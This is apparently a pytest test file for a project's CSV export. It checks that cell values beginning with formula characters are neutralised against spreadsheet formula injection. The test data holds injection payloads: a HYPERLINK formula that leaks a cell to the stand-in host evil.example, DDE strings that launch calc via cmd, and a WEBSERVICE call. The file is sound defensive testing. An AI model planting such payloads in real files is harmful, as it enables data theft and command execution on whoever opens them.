"""Every CSV the project writes is spreadsheet-safe (issue 20, item 6).

`verify sources export` wrote raters' names and rationales that start with ``=``, ``+``,
``-`` or ``@`` raw, so a spreadsheet opening the file ran them as formulas; the audit
CSV already neutralised them. Now both go through one helper, :mod:`verify.csvsafe`.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from verify.cli import cli
from verify.csvsafe import FORMULA_STARTS, restore_cell, safe_cell

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = {
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")": "@evil",
    "+cmd|' /C calc'!A0": "-rater",
    "-2+3": "=1+1",
    "@SUM(A1:A9)": "+ana",
    "\t=1+2": "\r=3",
    "\uff1dSUM(A1)": "plain rater",
}


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _assert_no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"formula-like cell {cell!r}"


def _rate_payloads(ws) -> None:
    for i, (rationale, rater) in enumerate(PAYLOADS.items()):
        ws.sources.rate(f"csvprobe{i}.example.com", 0.4, rationale=rationale, by=rater)


def test_sources_export_neutralises_formula_cells(ws, tmp_path: Path) -> None:
    _rate_payloads(ws)
    out = tmp_path / "ratings.csv"
    ws.sources.export(out, "csv")
    rows = _cells(out)
    _assert_no_formula_cells(rows)
    header = rows[0]
    ours = [dict(zip(header, r, strict=True)) for r in rows[1:]
            if r[header.index("domain")].startswith("csvprobe")]
    assert len(ours) == len(PAYLOADS)
    # Nothing is lost: restore_cell gives back exactly what was stored (rate() strips).
    stored = {k.strip(): v.strip() for k, v in PAYLOADS.items()}
    assert {restore_cell(r["rationale"]): restore_cell(r["rater"]) for r in ours} == stored
    assert all(r["rationale"].startswith("'") for r in ours)
    # Numbers stay numbers.
    assert {r["reliability"] for r in ours} == {"0.4"}


def test_cli_sources_export_is_safe(tmp_path: Path) -> None:
    ws = str(tmp_path / "ws")
    runner = CliRunner()
    rated = runner.invoke(cli, ["-w", ws, "sources", "rate", "alpha-news.com", "0.3",
                                "--rationale", "=WEBSERVICE(\"http://evil.example\")",
                                "--by", "@mallory"])
    assert rated.exit_code == 0, rated.output
    out = tmp_path / "export.csv"
    done = runner.invoke(cli, ["-w", ws, "sources", "export", str(out)])
    assert done.exit_code == 0, done.output
    rows = _cells(out)
    _assert_no_formula_cells(rows)
    flat = [cell for row in rows for cell in row]
    assert "'=WEBSERVICE(\"http://evil.example\")" in flat and "'@mallory" in flat


def test_audit_csv_uses_the_same_helper() -> None:
    from verify.audit.models import ArticleReport, AuditResult
    from verify.audit.reports import render_csv

    article = ArticleReport(key="a1", file_path="a1.txt", title="=cmd|' /C calc'!A0", url="@x",
                            status="error", message="-bad")
    result = AuditResult(audit_id="audit-1", status="done", created_at=None, finished_at=None,
                         inputs=[], settings={}, articles=[article])
    rows = list(csv.reader(render_csv(result).splitlines()))
    _assert_no_formula_cells(rows)
    assert rows[1][2] == "'=cmd|' /C calc'!A0"


@pytest.mark.parametrize("value, expected", [
    ("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("\uff20a", "'\uff20a"), ("a=1", "a=1"), ("", ""), (None, ""), (-1.5, -1.5), (3, 3),
])
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected
    if isinstance(value, str):
        assert restore_cell(safe_cell(value)) == value


def test_every_csv_writer_in_the_project_is_the_safe_one() -> None:
    """Guard: a new ``csv.writer`` outside verify/csvsafe.py would bypass the helper."""
    raw = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(")
    offenders = []
    for path in [*ROOT.joinpath("verify").rglob("*.py"), ROOT / "app.py",
                 *ROOT.joinpath("app_pages").rglob("*.py")]:
        if path.name == "csvsafe.py":
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if raw.search(line):
                offenders.append(f"{path.relative_to(ROOT)}:{n}")
    assert offenders == []


def test_a_safe_export_reads_back_on_import(ws, tmp_path: Path) -> None:
    """The project's own CSV reader undoes the apostrophe (a generic rating file)."""
    path = tmp_path / "ratings.csv"
    path.write_text("domain,rating,rationale\nalpha-news.com,0.7,'=not a formula\n",
                    encoding="utf-8")
    report = ws.sources.import_file(path, "generic", in_house=True, by="desk")
    assert report.rows_imported == 1
    assert ws.sources.current("alpha-news.com")[0].rationale == "=not a formula"
